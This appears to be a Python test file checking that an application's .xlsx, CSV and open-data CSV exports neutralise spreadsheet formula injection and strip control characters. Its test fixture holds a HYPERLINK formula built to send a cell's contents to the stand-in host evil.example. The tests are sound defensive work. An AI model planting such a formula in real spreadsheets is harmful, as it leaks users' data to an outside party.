"""Exports never carry a live formula (OWASP's CSV-injection advice) and never fail on
control characters: the .xlsx, the .csv and the public open-data CSV."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from accord.cooperation.models import Activity
from accord.reports import opendata
from accord.reports.matrix import export_matrix, import_matrix

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def _poison(world) -> Activity:
    activity = world.activities[0]
    Activity.objects.filter(pk=activity.pk).update(
        title=FORMULA, description="@SUM(1+1)\x07\x1b\x0b rest", funding_source="-2+3"
    )
    return activity


def test_a_formula_title_is_text_in_the_xlsx_and_control_characters_do_not_break_it(world):
    activity = _poison(world)
    data = export_matrix(world.biennium, "xlsx", user=world.admin)
    ws = load_workbook(io.BytesIO(data))["Matrix"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == activity.code)
    title, description = row[1], row[2]
    assert title.value == FORMULA and title.data_type == "s"
    assert description.value == "@SUM(1+1) rest" and description.data_type == "s"
    assert row[10].value == "-2+3" and row[10].data_type == "s"


def test_a_formula_title_leads_with_an_apostrophe_in_the_csv_and_reads_back_unchanged(world):
    activity = _poison(world)
    data = export_matrix(world.biennium, "csv", user=world.admin)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == activity.code)
    assert row[1] == "'" + FORMULA and row[2] == "'@SUM(1+1) rest" and row[10] == "'-2+3"
    Activity.objects.filter(pk=activity.pk).update(description="@SUM(1+1) rest")
    plan = import_matrix(data, "csv", user=world.admin)
    assert plan.is_valid and plan.count("unchanged") == len(world.activities)


def test_the_open_data_csv_escapes_formulas(world):
    activity = _poison(world)
    data, _, _ = opendata.matrix(world.biennium, "csv", world.admin)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    row = next(r for r in rows if r["code"] == activity.code)
    assert row["title"] == "'" + FORMULA and row["funding_source"] == "'-2+3"
    assert "\x07" not in row["description"]
